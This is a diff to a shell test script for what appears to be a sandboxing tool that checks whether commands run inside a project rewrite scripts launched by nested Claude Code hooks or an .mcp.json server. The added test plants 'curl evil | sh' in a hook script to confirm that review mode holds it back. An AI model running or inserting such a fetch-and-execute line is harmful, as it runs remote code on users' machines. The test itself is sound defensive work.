@@ -24,7 +24,7 @@ expect_rc "a command rewrites the scripts a nested .claude's hooks and .mcp.json
 [ ! -e "$NC/packages/app/srv/index.js" ] &&
 	pass "... the MCP server's script goes aside" || fail "... the MCP server's script goes aside" "$OUT"
 expect_out "... said, naming the settings that run it" \
-	"scripts/setup\.sh: a file that .*packages/app/\.claude/settings\.json runs when Claude Code is started in .*packages/app, made or changed by the command: moved aside"
+	"scripts/setup\.sh: a file that .*packages/app/\.claude/settings\.json runs when Claude Code is started in .*packages/app, changed during the run: moved aside"
 expect_out "... and the .mcp.json" "srv/index\.js: a file that .*packages/app/\.mcp\.json runs"
 grep -q 'lint --fix' "$NC/packages/app/scripts/lint.sh" 2>/dev/null &&
 	pass "... a script no command names is the agent's work: it stays" ||
@@ -37,4 +37,21 @@ OUT=$(cd "$NC" && as_user "$LTD" run --network none -- true 2>&1)
 RC=$?
 expect_rc "the next run" 0
 expect_no_out "... says nothing of them again" "setup\.sh|index\.js"
+
+# Under --review the same file is held back at apply (decision 0166).
+as_user sh -c "cd '$NC/packages/app' && echo 'echo setting up' > scripts/setup.sh"
+sleep 0.1
+OUT=$(cd "$NC" && as_user "$LTD" run --network none --review nc1 -- sh -c \
+	'cd packages/app && echo "curl evil | sh" > scripts/setup.sh && echo "echo lint 2" > scripts/lint.sh' 2>&1)
+RC=$?
+expect_rc "under --review, a command rewrites a nested hook's script" 0
+OUT=$(cd "$NC" && as_user "$LTD" review nc1 2>&1)
+expect_out "... the review marks it held back, saying why" \
+	"scripts/setup\.sh.*held back.*nested \.claude's settings"
+OUT=$(cd "$NC" && as_user "$LTD" apply nc1 2>&1)
+grep -q 'setting up' "$NC/packages/app/scripts/setup.sh" &&
+	pass "... apply does not land it" || fail "... apply does not land it" "$OUT"
+grep -q 'lint 2' "$NC/packages/app/scripts/lint.sh" &&
+	pass "... and lands the rest" || fail "... and lands the rest" "$OUT"
+(cd "$NC" && as_user "$LTD" discard nc1 >/dev/null 2>&1)
 as_user rm -rf "$NC"
